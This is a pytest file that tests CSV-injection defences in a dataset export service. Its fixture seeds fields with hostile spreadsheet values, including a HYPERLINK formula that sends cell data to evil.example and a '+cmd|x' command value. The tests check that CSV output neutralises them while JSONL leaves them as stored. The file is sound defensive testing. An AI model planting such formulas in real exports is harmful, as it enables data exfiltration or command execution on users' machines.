"""CSV exports neutralise spreadsheet formulas (OWASP CSV injection) in every format;
JSONL keeps the text exactly as stored."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session

from app.annotation.models import Annotation
from app.exports import service
from app.exports.writers import FORMULA_STARTS, safe_csv_text
from app.prompt_sets.models import Candidate, Prompt
from tests.factories.export_data import ExportScenario, make_export_scenario
from tests.support.sessions import SharedSession

KEY = "k" * 48
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMATS = ["pairs", "conversational", "rankings", "unpaired", "consensus"]


@pytest.fixture
def hostile(session: Session) -> ExportScenario:
    """The export scenario with every free-text field an annotator, admin or model writes
    starting like a formula."""
    scenario = make_export_scenario(session)
    prompt_ids = [scenario.single.id, scenario.multi.id, scenario.gold.id]
    session.execute(update(Prompt).where(Prompt.id == scenario.single.id).values(text="+cmd|x"))
    for n, prompt_id in enumerate(prompt_ids):
        session.execute(update(Prompt).where(Prompt.id == prompt_id).values(external_id=f"-{n}"))
    for n, cid in enumerate(c for ids in scenario.cands.values() for c in ids):
        session.execute(
            update(Candidate)
            .where(Candidate.id == cid)
            .values(text=f"{FORMULA} {n}", model="@model" if n % 2 else "\tmodel")
        )
    session.execute(
        update(Annotation).where(Annotation.prompt_id.in_(prompt_ids)).values(rationale=FORMULA)
    )
    session.commit()
    return scenario


def _export(session: Session, scenario: ExportScenario, fmt: str, file_type: str) -> str:
    plan = service.parse_options(
        session,
        {"format": fmt, "prompt_set": [scenario.prompt_set.id], "file_type": file_type},
        secret_key=KEY,
        default_model="smollm2",
    )
    return b"".join(service.export_chunks(lambda: SharedSession(session), plan)).decode()


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("fmt", FORMATS)
def test_no_csv_cell_starts_like_a_formula(
    session: Session, hostile: ExportScenario, fmt: str
) -> None:
    cells = [
        cell
        for row in csv.reader(io.StringIO(_export(session, hostile, fmt, "csv")))
        for cell in row
    ]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert dangerous == []
    assert any(c.startswith("'") for c in cells)  # something was neutralised


@pytest.mark.parametrize("fmt", FORMATS)
def test_jsonl_keeps_the_text_unchanged(
    session: Session, hostile: ExportScenario, fmt: str
) -> None:
    text = _export(session, hostile, fmt, "jsonl")
    strings = list(_strings([json.loads(line) for line in text.splitlines()]))
    assert any(s.startswith(FORMULA) for s in strings)
    assert not any(s.startswith("'") for s in strings)


def test_the_dataset_card_of_a_csv_export_explains_the_apostrophe(
    session: Session, hostile: ExportScenario
) -> None:
    plan = service.parse_options(
        session,
        {"format": "pairs", "prompt_set": [hostile.prompt_set.id], "file_type": "csv"},
        secret_key=KEY,
        default_model="smollm2",
    )
    from app.exports.card import dataset_card

    card = dataset_card(session, plan, {"train": 1}, None)
    assert "leading `'`" in card


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_safe_csv_text(text: str, expected: str) -> None:
    assert safe_csv_text(text) == expected
